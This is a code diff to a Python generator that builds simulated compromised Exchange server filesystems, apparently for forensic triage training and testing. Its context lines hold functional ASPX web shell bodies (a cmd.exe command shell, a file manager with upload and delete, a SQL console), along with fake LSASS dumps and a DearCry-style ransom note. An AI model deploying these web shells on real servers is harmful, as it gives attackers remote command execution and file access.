@@ -26,7 +26,12 @@ from extriage.generator.tree import Tree
 
 TEMP_ASPNET = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files"
 #: Pages a working server has compiled (legitimate virtual paths).
-LEGIT_COMPILED = ("/owa/auth/logon.aspx", "/owa/auth/logoff.aspx", "/ecp/default.aspx", "/owa/auth/errorfe.aspx")
+LEGIT_COMPILED = (
+    "/owa/auth/logon.aspx",
+    "/owa/auth/logoff.aspx",
+    "/ecp/default.aspx",
+    "/owa/auth/errorfe.aspx",
+)
 _HOT = ("frontend/httpproxy/owa/auth/", "frontend/httpproxy/ecp/auth/", "clientaccess/owa/auth/")
 
 
@@ -53,7 +58,11 @@ def _legit_tree(tree: Tree, plan: AttackPlan, rng: random.Random, mtime: datetim
         rest = sorted(rng.sample(rest, limit))
     n = 0
     for rel in hot + rest:
-        win = plan.install_path + "\\" + _canonical(rel).replace("/version/", f"/{plan.owa_version_folder}/").replace("/", "\\")
+        win = (
+            plan.install_path
+            + "\\"
+            + _canonical(rel).replace("/version/", f"/{plan.owa_version_folder}/").replace("/", "\\")
+        )
         tree.write_bytes(win, legit_content(rel, rng), mtime=mtime)
         n += 1
     return n
@@ -71,14 +80,17 @@ def legit_content(rel: str, rng: random.Random) -> bytes:
     """Harmless stand-in content for a legitimate file, shaped like its type."""
     name = rel.rsplit("/", 1)[-1]
     ext = name.rsplit(".", 1)[-1] if "." in name else ""
-    filler = " ".join(rng.choice(("owa", "mail", "calendar", "people", "tasks", "settings")) for _ in range(rng.randrange(20, 120)))
+    filler = " ".join(
+        rng.choice(("owa", "mail", "calendar", "people", "tasks", "settings"))
+        for _ in range(rng.randrange(20, 120))
+    )
     if ext in ("aspx", "ascx", "master"):
         return (
             f'<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.Clients.Owa2.Server.Web.{name.split(".")[0].title()}" %>\r\n'
             f"<!DOCTYPE html>\r\n<html><head><title>Outlook</title></head><body>\r\n<div>{filler}</div>\r\n</body></html>\r\n"
         ).encode()
     if ext in ("js", "json"):
-        return f"/* Microsoft Exchange */\nvar strings = {{ text: \"{filler}\" }};\nfunction init() {{ return strings.text.length; }}\n".encode()
+        return f'/* Microsoft Exchange */\nvar strings = {{ text: "{filler}" }};\nfunction init() {{ return strings.text.length; }}\n'.encode()
     if ext in ("css",):
         return f".{name.split('.')[0]} {{ font-family: 'Segoe UI'; color: #333; }}\n/* {filler} */\n".encode()
     if ext in ("xml", "config", "xsd", "xaml", "svc", "asax", "ashx", "asmx"):
@@ -99,12 +111,14 @@ def _compiled(tree: Tree, plan: AttackPlan, rng: random.Random, vp: str, when: d
         '<?xml version="1.0" encoding="utf-8"?>\r\n'
         f'<preserve resultType="3" virtualPath="{vp}" hash="{rng.getrandbits(40):x}" filehash="{rng.getrandbits(60):x}" '
         f'flags="110000" assembly="{app}" type="{typ}">\r\n'
-        '    <filedeps>\r\n'
+        "    <filedeps>\r\n"
         f'        <filedep name="{vp}" />\r\n'
-        '    </filedeps>\r\n'
-        '</preserve>\r\n'
+        "    </filedeps>\r\n"
+        "</preserve>\r\n"
     )
-    path = f"{TEMP_ASPNET}\\{'owa' if legit else 'root'}\\{d1}\\{d2}\\{page}.{rng.getrandbits(32):08x}.compiled"
+    path = (
+        f"{TEMP_ASPNET}\\{'owa' if legit else 'root'}\\{d1}\\{d2}\\{page}.{rng.getrandbits(32):08x}.compiled"
+    )
     tree.write_text(path, body, mtime=when)
     return path
 
@@ -128,7 +142,7 @@ def shell_bodies(pw: str) -> dict[str, str]:
             '<script runat="server">\r\nprotected void Page_Load(object sender, EventArgs e) {\r\n'
             '  ProcessStartInfo psi = new ProcessStartInfo();\r\n  psi.FileName = "cmd.exe";\r\n'
             f'  psi.Arguments = "/c " + Request.Form["{pw}"];\r\n  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\r\n'
-            '  Process p = Process.Start(psi);\r\n  Response.Write(p.StandardOutput.ReadToEnd());\r\n}\r\n</script>\r\n'
+            "  Process p = Process.Start(psi);\r\n  Response.Write(p.StandardOutput.ReadToEnd());\r\n}\r\n</script>\r\n"
         ),
         "Assembly.Load loader": (
             '<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %>\r\n'
@@ -142,17 +156,17 @@ def shell_bodies(pw: str) -> dict[str, str]:
         ),
         "file manager": (
             '<%@ Page Language="C#" %><%@ Import Namespace="System.IO" %>\r\n<script runat="server">\r\n'
-            'void Page_Load(object s, EventArgs e) {\r\n  foreach (DriveInfo d in DriveInfo.GetDrives()) Response.Write(d.Name);\r\n'
+            "void Page_Load(object s, EventArgs e) {\r\n  foreach (DriveInfo d in DriveInfo.GetDrives()) Response.Write(d.Name);\r\n"
             f'  foreach (string f in Directory.GetFiles(Request["{pw}"])) Response.Write(f);\r\n'
             '  if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath("./") + Request["n"]);\r\n'
             '  if (Request["del"] != null) File.Delete(Request["del"]);\r\n}\r\n</script>\r\n'
         ),
         "SQL console": (
             '<%@ Page Language="C#" %><%@ Import Namespace="System.Data.SqlClient" %>\r\n<script runat="server">\r\n'
-            'void Page_Load(object s, EventArgs e) {\r\n'
+            "void Page_Load(object s, EventArgs e) {\r\n"
             '  SqlConnection c = new SqlConnection(Request["cs"]);\r\n'
             f'  SqlCommand q = new SqlCommand(Request["{pw}"], c); c.Open();\r\n'
-            '  SqlDataReader r = q.ExecuteReader(); while (r.Read()) Response.Write(r[0]);\r\n}\r\n</script>\r\n'
+            "  SqlDataReader r = q.ExecuteReader(); while (r.Read()) Response.Write(r[0]);\r\n}\r\n</script>\r\n"
         ),
         "obfuscated shell": (
             '<%@ Page Language="Jscript" Debug=true%>\r\n<script language="JScript" runat="server">\r\n'
@@ -211,7 +225,13 @@ def pst_shell(pw: str, rng: random.Random) -> bytes:
 def compiled_dll(vp: str, rng: random.Random) -> bytes:
     app = "App_Web_" + "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))
     strings = f"\x00{app}\x00~{vp}\x00{vp}\x00JScriptEvaluate\x00get_Request\x00Page_Load\x00".encode()
-    return b"MZ\x90\x00\x03\x00\x00\x00" + bytes(120) + b"PE\x00\x00" + bytes(rng.getrandbits(8) for _ in range(512)) + strings
+    return (
+        b"MZ\x90\x00\x03\x00\x00\x00"
+        + bytes(120)
+        + b"PE\x00\x00"
+        + bytes(rng.getrandbits(8) for _ in range(512))
+        + strings
+    )
 
 
 def _attack(tree: Tree, plan: AttackPlan, rng: random.Random) -> list[dict[str, Any]]:
@@ -226,7 +246,9 @@ def _attack(tree: Tree, plan: AttackPlan, rng: random.Random) -> list[dict[str, 
     inst = plan.install_path
     ver = plan.owa_version_folder
 
-    def put(path: str, data: bytes | str, family: str, when: datetime, url: str | None = None, shell: bool = True) -> None:
+    def put(
+        path: str, data: bytes | str, family: str, when: datetime, url: str | None = None, shell: bool = True
+    ) -> None:
         raw = data.encode() if isinstance(data, str) else data
         tree.write_bytes(path, raw, mtime=when)
         out.append({"path": path, "family": family, "url": url, "webshell": shell})
@@ -239,7 +261,10 @@ def _attack(tree: Tree, plan: AttackPlan, rng: random.Random) -> list[dict[str, 
         (f"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{_rand(rng)}.aspx", "China Chopper (C#)"),
         (f"C:\\inetpub\\wwwroot\\aspnet_client\\{_rand(rng)}.asp", "China Chopper (VB)"),
         (f"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{_rand(rng)}.aspx", "command shell"),
-        (f"{inst}\\FrontEnd\\HttpProxy\\owa\\auth\\Current\\themes\\{_rand(rng)}.aspx", "Assembly.Load loader"),
+        (
+            f"{inst}\\FrontEnd\\HttpProxy\\owa\\auth\\Current\\themes\\{_rand(rng)}.aspx",
+            "Assembly.Load loader",
+        ),
         (f"{inst}\\FrontEnd\\HttpProxy\\ecp\\auth\\{_rand(rng)}.aspx", "reflection loader"),
         (f"C:\\inetpub\\wwwroot\\aspnet_client\\{_rand(rng)}.aspx", "file manager"),
         (f"{inst}\\FrontEnd\\HttpProxy\\owa\\auth\\{ver}\\{_rand(rng)}.aspx", "SQL console"),
@@ -269,7 +294,13 @@ def _attack(tree: Tree, plan: AttackPlan, rng: random.Random) -> list[dict[str, 
     put(dll, compiled_dll(s0.url, rng), "compiled web shell", t_use)
     # post-exploitation
     put("C:\\Windows\\Temp\\lsass.dmp", minidump(rng), "LSASS dump", t_lsass, shell=False)
-    put("C:\\PerfLogs\\Admin\\perfdata_0417.tmp", minidump(rng, 6000), "LSASS dump (renamed)", t_lsass + timedelta(minutes=3), shell=False)
+    put(
+        "C:\\Users\\Administrator\\AppData\\Local\\Temp\\perfdata_0417.tmp",
+        minidump(rng, 6000),
+        "LSASS dump (renamed)",
+        t_lsass + timedelta(minutes=3),
+        shell=False,
+    )
     archive = io.BytesIO()
     with zipfile.ZipFile(archive, "w") as zf:
         zf.writestr("pst/export1.txt", "mailbox export placeholder\r\n")
@@ -289,12 +320,29 @@ def _attack(tree: Tree, plan: AttackPlan, rng: random.Random) -> list[dict[str, 
         t_stage + timedelta(minutes=3),
         shell=False,
     )
-    put("C:\\Users\\Public\\opera\\opera_browser.exe", b"MZ\x90\x00" + bytes(200), "tool drop (opera_browser.exe)", t_stage, shell=False)
+    put(
+        "C:\\Users\\Public\\opera\\opera_browser.exe",
+        b"MZ\x90\x00" + bytes(200),
+        "tool drop (opera_browser.exe)",
+        t_stage,
+        shell=False,
+    )
     if "proxyshell" in plan.waves:
-        put(f"{inst}\\FrontEnd\\HttpProxy\\owa\\auth\\{_rand(rng, 6)}.aspx", pst_shell(pw, rng), "PST-encoded shell", t_use + timedelta(days=1))
+        put(
+            f"{inst}\\FrontEnd\\HttpProxy\\owa\\auth\\{_rand(rng, 6)}.aspx",
+            pst_shell(pw, rng),
+            "PST-encoded shell",
+            t_use + timedelta(days=1),
+        )
     if plan.scenario == "full":
         t_ransom = t_stage + timedelta(days=1)
-        put("C:\\Users\\Administrator\\Documents\\budget2021.xlsx.CRYPT", b"DEARCRY!" + bytes(rng.getrandbits(8) for _ in range(1024)), "DearCry-encrypted file", t_ransom, shell=False)
+        put(
+            "C:\\Users\\Administrator\\Documents\\budget2021.xlsx.CRYPT",
+            b"DEARCRY!" + bytes(rng.getrandbits(8) for _ in range(1024)),
+            "DearCry-encrypted file",
+            t_ransom,
+            shell=False,
+        )
         put(
             "C:\\Users\\Administrator\\Desktop\\readme.txt",
             "Your file has been encrypted!\r\nIf you want to decrypt, please contact us.\r\nkonedieyp@airmail.cc or uenwonken@memail.com\r\n",
